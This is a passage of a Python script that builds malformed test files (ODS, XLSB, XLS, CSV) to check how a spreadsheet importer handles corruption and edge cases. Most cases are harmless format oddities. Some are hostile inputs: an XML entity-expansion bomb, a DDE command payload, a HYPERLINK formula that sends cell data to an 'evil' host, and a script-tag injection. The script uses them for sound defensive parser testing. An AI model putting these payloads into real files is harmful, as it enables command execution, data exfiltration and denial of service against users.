ods('o05_text_s_count.ods', '<text:s text:c="99999999999"/>', f'<table:table table:name="S1"><table:table-row><table:table-cell office:value-type="string"><text:p>a<text:s text:c="99999999999"/>b</text:p></table:table-cell></table:table-row></table:table>')
ods('o06_pretty_printed.ods', 'indented (pretty-printed) content.xml', OG.replace('<table:table-row>', '\n  <table:table-row>\n    ').replace('</table:table-row>', '\n  </table:table-row>\n'))
ods('o07_bad_repeat.ods', 'number-columns-repeated="-1"', '<table:table table:name="S1"><table:table-row><table:table-cell office:value-type="float" office:value="1" table:number-columns-repeated="-1"/></table:table-row></table:table>')
ods('o07b_bad_value.ods', 'office:value="+inf" and "1_0"', '<table:table table:name="S1"><table:table-row>' + of('abc') + '</table:table-row></table:table>')
ods('o10_dates.ods', 'date-value, time-value, percentage, currency, boolean', '<table:table table:name="S1"><table:table-row><table:table-cell office:value-type="date" office:date-value="2025-09-01"/><table:table-cell office:value-type="time" office:time-value="PT09H30M00S"/><table:table-cell office:value-type="percentage" office:value="0.1"/><table:table-cell office:value-type="currency" office:value="12.30"/><table:table-cell office:value-type="boolean" office:boolean-value="true"/></table:table-row></table:table>')
ods('o11_dup_names.ods', 'two tables both named S1', OG + OG.replace('19.5', '999'))
ods('o12_covered_trailing.ods', 'normal file padded the way LibreOffice does: 1,048,574 trailing empty rows', OG.replace('</table:table>', '<table:table-row table:number-rows-repeated="1048574"><table:table-cell table:number-columns-repeated="16384"/></table:table-row></table:table>'))
ods('o13_value_in_last_row.ods', 'value in the last row after 1,048,570 empty rows, 2 columns', OG.replace('</table:table>', f'<table:table-row table:number-rows-repeated="1048570"><table:table-cell table:number-columns-repeated="16384"/></table:table-row><table:table-row>{of(1)}</table:table-row></table:table>'))
ods('o14_encrypted.ods', 'manifest declares encryption-data', OG, manifest=HDR + '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry></manifest:manifest>')
ods('o15_billion_laughs.ods', 'billion laughs in content.xml', None, raw=HDR + ents + f'<office:document-content {ONS}><office:body><office:spreadsheet><table:table table:name="S1"><table:table-row>{oc("&lol11;")}</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>')
ods('o16_group_header_rows.ods', 'rows inside table-header-rows / table-row-group', f'<table:table table:name="S1"><table:table-header-rows><table:table-row>{oc("Teacher")}</table:table-row></table:table-header-rows><table:table-row-group><table:table-row>{oc("Alice")}</table:table-row></table:table-row-group></table:table>')
ods('o17_comment_in_row.ods', 'XML comment between cells', OG.replace('<table:table-row>', '<table:table-row><!-- hi -->'))
ods('o18_manifest_truncated.ods', 'META-INF/manifest.xml truncated', OG, manifest=HDR + '<manifest:manifest xmlns:manifest="urn:x"><manifest:file-entry manifest:full-path="content.xml">')
put('o19_flat.fods', HDR + f'<office:document {ONS}><office:body><office:spreadsheet>{OG}</office:spreadsheet></office:body></office:document>', 'flat ODS')

# ---------------------------------------------------------------- xlsb (hand written BIFF12)
def vi(n):  # record length varint
    o = b''
    while True:
        c = n & 0x7f; n >>= 7
        if n: o += bytes([c | 0x80])
        else: return o + bytes([c])
def rt(t): return bytes([t]) if t < 0x80 else bytes([(t & 0x7f) | 0x80, t >> 7])
def rec(t, d=b''): return rt(t) + vi(len(d)) + d
def wstr(s): return struct.pack('<I', len(s)) + s.encode('utf-16-le')
def brow(r): return rec(0, struct.pack('<I', r) + bytes(21))
def bcell(c, st=0): return struct.pack('<II', c, st)
def xlsb(name, what, rows, sstbin=None, dims=(0, 1, 0, 1), wbbin=None, sheet_raw=None):
    sheet = sheet_raw if sheet_raw is not None else rec(0x81) + rec(0x94, struct.pack('<IIII', *dims)) + rec(0x91) + rows + rec(0x92) + rec(0x82)
    wb = wbbin or rec(0x83) + rec(0x99, struct.pack('<II', 0, 0) + wstr('')) + rec(0x8f) + rec(0x9c, struct.pack('<II', 0, 1) + wstr('rId1') + wstr('Sheet1')) + rec(0x90) + rec(0x84)
    st = sstbin or rec(0x9f, struct.pack('<II', 2, 2)) + rec(0x13, b'\0' + wstr('Teacher')) + rec(0x13, b'\0' + wstr('Hours')) + rec(0xa0)
    b = io.BytesIO(); z = zipfile.ZipFile(b, 'w', zipfile.ZIP_DEFLATED)
    def w(n, d): z.writestr(zipfile.ZipInfo(n, (2024,1,1,0,0,0)), d, compress_type=zipfile.ZIP_DEFLATED)
    w('[Content_Types].xml', ctypes(0)); w('_rels/.rels', RELS.replace('workbook.xml', 'workbook.bin')); w('xl/workbook.bin', wb)
    w('xl/_rels/workbook.bin.rels', wbrels(1, ['worksheets/sheet1.bin'])); w('xl/sharedStrings.bin', st); w('xl/worksheets/sheet1.bin', sheet); z.close()
    put(name, b.getvalue(), what)
isst = lambda c, i: rec(7, bcell(c) + struct.pack('<I', i))
real = lambda c, v: rec(5, bcell(c) + struct.pack('<d', v))
BG = brow(0) + isst(0, 0) + isst(1, 1) + brow(1) + isst(0, 0) + real(1, 19.5)
xlsb('b00_good.xlsb', 'baseline xlsb (hand written)', BG)
xlsb('b01_isst_oob.xlsb', 'shared string index 99 of 2', brow(0) + isst(0, 99))
xlsb('b02_short_record.xlsb', 'BrtCellReal with 4-byte body', brow(0) + rec(5, b'\0\0\0\0'))
xlsb('b02b_empty_record.xlsb', 'BrtCellIsst with empty body', brow(0) + rec(7, b''))
xlsb('b02c_short_dim.xlsb', 'BrtWsDim with 4-byte body', None, sheet_raw=rec(0x81) + rec(0x94, b'\0' * 4) + rec(0x91) + rec(0x92))
xlsb('b03_len_lie.xlsb', 'record claims 268,435,455 bytes, 3 follow', None, sheet_raw=rec(0x81) + rec(0x94, bytes(16)) + rec(0x91) + rt(5) + vi(0x0fffffff) + b'abc')
xlsb('b04_row_beyond.xlsb', 'row index 1,048,577 then more good rows (rest of the sheet dropped?)', BG + brow(0x100001) + real(0, 7) + brow(2) + isst(0, 0) + real(1, 42))
xlsb('b05_col_max.xlsb', 'column index 0xFFFFFFFF', BG + brow(2) + real(0xFFFFFFFF, 7))
xlsb('b06_corners.xlsb', 'cells at (0,0) and (1048575,16383)', brow(0) + real(0, 1) + brow(1048575) + real(16383, 2))
xlsb('b07_truncated.xlsb', 'sheet stream ends before BrtEndSheetData', None, sheet_raw=rec(0x81) + rec(0x94, bytes(16)) + rec(0x91) + BG)
xlsb('b08_widestr_len.xlsb', 'BrtCellSt string length 0x7fffffff', brow(0) + rec(6, bcell(0) + struct.pack('<I', 0x7fffffff) + b'ab'))
xlsb('b09_sst_count.xlsb', 'sst unique count 0xffffffff', BG, sstbin=rec(0x9f, struct.pack('<II', 0xffffffff, 0xffffffff)) + rec(0x13, b'\0' + wstr('Teacher')) + rec(0xa0))
xlsb('b10_dims_reversed.xlsb', 'dimension rows 5..1 cols 5..1', BG, dims=(5, 1, 5, 1))
xlsb('b11_formula_lie.xlsb', 'BrtFmlaNum with cce larger than body', brow(0) + rec(9, bcell(0) + struct.pack('<d', 5.0) + b'\0\0' + struct.pack('<I', 0xffff) + b'\0'))
xlsb('b12_error_code.xlsb', 'cell error code 0x99', BG + brow(2) + rec(3, bcell(0) + b'\x99'))

# ---------------------------------------------------------------- xls
try:
    import xlwt, datetime
    def xls(fn, what):
        w = xlwt.Workbook(); b = io.BytesIO(); fn(w); w.save(b); return b.getvalue()
    def g(w):
        s = w.add_sheet('Sheet1'); s.write(0, 0, 'Teacher'); s.write(0, 1, 'Hours'); s.write(1, 0, 'Alice'); s.write(1, 1, 19.5); s.write(2, 1, xlwt.Formula('B2*2')); s.write(3, 1, datetime.datetime(2025, 9, 1, 9, 0), xlwt.easyxf(num_format_str='dd/mm/yyyy hh:mm'))
    X = xls(g, ''); put('l00_good.xls', X, 'baseline BIFF8 (xlwt)')
    def g2(w): s = w.add_sheet('Sheet1'); s.write(0, 0, 1); s.write(65535, 255, 2)
    put('l08_corners.xls', xls(g2, ''), 'cells A1 and IV65536')
    d = bytearray(X); n = len(X)
    dirs = struct.unpack_from('<I', d, 48)[0]; fat0 = struct.unpack_from('<I', d, 76)[0]
    c = bytearray(d); struct.pack_into('<I', c, 512 + fat0*512 + dirs*4, dirs); put('l01_fat_cycle_dir.xls', bytes(c), 'FAT directory chain points to itself')
    c = bytearray(d); struct.pack_into('<I', c, 48, n // 512); put('l02_dirstart_eof.xls', bytes(c), 'directory start sector == file_len/512 (just past the end)')
    put('l02b_same_named.xlsx', bytes(c), 'same CFB named .xlsx (reached through the password check)')
    c = bytearray(d); struct.pack_into('<I', c, 512 + fat0*512 + dirs*4, 0x00fffff0); put('l02c_fat_oob.xls', bytes(c), 'FAT entry beyond the FAT')
    o = d.find('Workbook'.encode('utf-16-le')); ss = struct.unpack_from('<I', d, o + 116)[0]
    c = bytearray(d); struct.pack_into('<I', c, 512 + fat0*512 + ss*4, ss); struct.pack_into('<I', c, o + 120, 0xffffffff); put('l01b_fat_cycle_stream.xls', bytes(c), 'Workbook stream chain is a cycle and its declared length is 4 GiB')
    # FILEPASS after BOF
    st = 512 + ss*512; bl = struct.unpack_from('<H', d, st + 2)[0]
    c = bytearray(d); c[st+4+bl:st+4+bl+4] = struct.pack('<HH', 0x2f, struct.unpack_from('<H', d, st+4+bl+2)[0]); put('l10_filepass.xls', bytes(c), 'FILEPASS record (password-protected xls)')
    for k, f in (('25', .25), ('50', .5), ('75', .75), ('95', .95)): put(f'l03_trunc{k}.xls', X[:int(n*f)], f'xls truncated to {k} %')
    c = bytearray(d); o = c.find(struct.pack('<HH', 0x00fc, 0))
    i = st
    while i < len(c) - 4:
        t, l = struct.unpack_from('<HH', c, i)
        if t == 0x00fc: struct.pack_into('<II', c, i + 4, 0xffffffff, 0x7fffffff); break
        i += 4 + l
    put('l11_sst_count.xls', bytes(c), 'SST unique count 0x7fffffff')
    c = bytearray(d); i = st; 
    while i < len(c) - 4:
        t, l = struct.unpack_from('<HH', c, i)
        if t == 0x0200: struct.pack_into('<II', c, i + 4, 5, 1); break
        i += 4 + l
    put('l12_dims_reversed.xls', bytes(c), 'DIMENSIONS first row 5 > last row 1')
    c = bytearray(d); i = st
    while i < len(c) - 4:
        t, l = struct.unpack_from('<HH', c, i)
        if t == 0x00fd: struct.pack_into('<I', c, i + 4 + 6, 999); break
        i += 4 + l
    put('l13_sst_index_oob.xls', bytes(c), 'LABELSST index 999')
except ImportError: print('skip xls (no xlwt)')

# ---------------------------------------------------------------- csv
put('c00_good.csv', 'Teacher,Hours\r\nAlice,19.5\r\nBob,20\r\n', 'baseline csv')
put('c01_cp1252.csv', 'Teacher,Rate\r\nZo\xeb,\xa312\r\n'.encode('cp1252'), 'Windows-1252 bytes')
put('c01b_mixed_encoding.csv', 'Teacher,Rate\r\nZoë,£12\r\n'.encode() + 'Zo\xeb,\xa312\r\n'.encode('cp1252'), 'row 2 UTF-8, row 3 Windows-1252')
put('c02_nuls.csv', b'Teacher,Hours\r\nAli\x00ce,19.5\r\n\x00\x00\x00\x00', 'NUL bytes')
put('c03_unbalanced_quote.csv', 'Teacher,Hours\n' + 'Alice,1\n' * 10 + '"Bob,2\n' + 'Carol,3\n' * 1000, 'one opening quote on line 12 swallows 1,000 rows')
put('c03b_two_unbalanced.csv', 'Teacher,Hours\n' + 'Alice,1\n' * 10 + '"Bob,2\n' + 'Carol,3\n' * 500 + 'Dan",4\n' + 'Eve,5\n' * 10, 'quote opened on line 12 and closed on line 513: still two columns')
put('c04_ragged.csv', 'Teacher,Hours\nAlice\nBob,2,3\nCarol,4\n', 'short and long rows')
put('c06_utf16le.csv', b'\xff\xfe' + 'Teacher,Hours\r\nAlice,19.5\r\n'.encode('utf-16-le'), 'UTF-16LE with BOM (Excel "Unicode text" uses tabs)')
put('c06b_utf16le_nobom.csv', 'Teacher,Hours\r\nAlice,19.5\r\n'.encode('utf-16-le'), 'UTF-16LE without BOM')
put('c07_bom.csv', b'\xef\xbb\xbfTeacher,Hours\r\nAlice,19.5\r\n', 'UTF-8 BOM')
put('c08_cr_only.csv', 'Teacher,Hours\rAlice,19.5\rBob,20\r', 'CR-only line ends (old Mac)')
put('c09_mixed_eol.csv', 'Teacher,Hours\nAlice,19.5\r\nBob,20\rCarol,1\n\n\n', 'mixed line ends, blank lines')
put('c10_semicolon.csv', 'Teacher;Hours\nAlice;19,5\n', 'semicolons and decimal commas')
put('c11_sep.csv', 'sep=;\nTeacher;Hours\nAlice;19.5\n', 'Excel sep= line')
put('c12_dup_header.csv', 'Teacher,Hours,Hours\nAlice,1,2\n', 'duplicate header')
put('c13_empty.csv', '', 'empty file')
put('c14_header_only.csv', 'Teacher,Hours\n', 'header only')
put('c15_bare_quotes.csv', 'Teacher,Hours\nAl"ice,1\n"Bob"x,2\n"Ca""rol",3\n', 'quotes in the middle of fields')
put('c16_injection.csv', 'Teacher,Hours\n"=cmd|\'/C calc\'!A0",1\n+1+1,2\n-2+3,3\n@SUM(1),4\n"\t=1+1",5\n"\r=1+1",6\n＝1+1,7\n<script>alert(1)</script>,8\n"=HYPERLINK(""http://evil/""&A1,""x"")",9\n', 'formula / HTML injection payloads')
put('c18_blank_rows.csv', 'Teacher,Hours\n' + ',\n' * 200000, '200,000 blank rows')
put('c19_trailing_delim.csv', 'Teacher,Hours,\nAlice,1,\n', 'trailing delimiter')
put('c20_dates.csv', 'Teacher,Date,Start\nAlice,03/04/2025,9:00\nBob,04/13/2025,09.00\nCarol,2025-04-03,900\nDan,3-Apr,24:00\nEve,31/02/2025,9am\nFay,30/03/2025,01:30\nGil,26/10/2025,01:30\n', 'ambiguous, impossible and DST-edge dates/times')
put('c21_numbers.csv', 'Teacher,Hours\nA,"1,234.5"\nB,10%\nC,.5\nD,1e3\nE,½\nF,1:30\nG,１２\nH,- 3\nI,(3)\nJ,NaN\nK,inf\nL,0x10\nM,1_000\n', 'number spellings')
put('c22_wide.csv', 'a,' * 500000 + '\n' + '1,' * 500000 + '\n', '500,001 columns')
print(len(INDEX), 'files')
